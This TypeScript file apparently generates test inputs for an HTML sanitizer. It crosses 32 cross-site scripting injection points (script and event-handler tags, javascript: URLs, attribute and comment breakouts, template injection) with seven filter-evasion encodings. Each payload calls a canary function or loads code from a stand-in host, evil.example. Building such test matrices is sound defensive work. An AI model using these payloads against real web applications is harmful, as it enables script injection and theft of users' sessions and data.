/** What a text may try to become: each calls the canary, or asks another host, with its number. */
const SINKS: readonly ((call: string, away: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (_call, away) => `<script src=${away}></script>`,
  (call) => `<img src=x onerror=${call}>`,
  (_call, away) => `<img src="${away}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  (call) => `<svg><a href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<a href="javascript:${call}" autofocus>x</a>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<body onload=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (_call, away) => `<embed src="${away}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (_call, away) => `<meta http-equiv=refresh content="0;url=${away}">`,
  (_call, away) => `<link rel=stylesheet href="${away}">`,
  (_call, away) => `<style>@import "${away}"; * { background: url(${away}) }</style>`,
  (_call, away) => `<base href="${away}/">`,
  (call) => `" onmouseover="${call}" autofocus onfocus="${call}" x="`,
  (call) => `' onmouseover='${call}' x='`,
  (call) => `"><img src=x onerror=${call}><x y="`,
  (call) => `</title></style></textarea></script><img src=x onerror=${call}>`,
  (call) => `--><img src=x onerror=${call}><!--`,
  (call) => `]]><img src=x onerror=${call}><![CDATA[`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>opener.${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `$t(offers:of) {{title}} \${${call}}`,
];

/** Ways to write it that a filter may read otherwise than a browser. */
const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) =>
    text.replaceAll(/script|onerror|onload|javascript/g, (word) => `${word.slice(0, 2)}<b>${word.slice(2)}`),
  (text) => text.replaceAll('javascript:', 'java\tscript:').replaceAll(/ (on[a-z]+)=/g, '/$1\n='),
  (text) => text.replaceAll(/[<>]/g, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (text) => `<scr<script>ipt>${text}</scr</script>ipt>`,
];

export type Payload = { readonly number: number; readonly text: string };

/** Each sink in each writing. */
export const PAYLOADS: readonly Payload[] = SINKS.flatMap((sink, row) =>
  WRITINGS.map((write, column) => {
    const number = row * WRITINGS.length + column;
    return { number, text: write(sink(`canary(${number})`, `https://evil.example/${number}`)) };
  }),
);
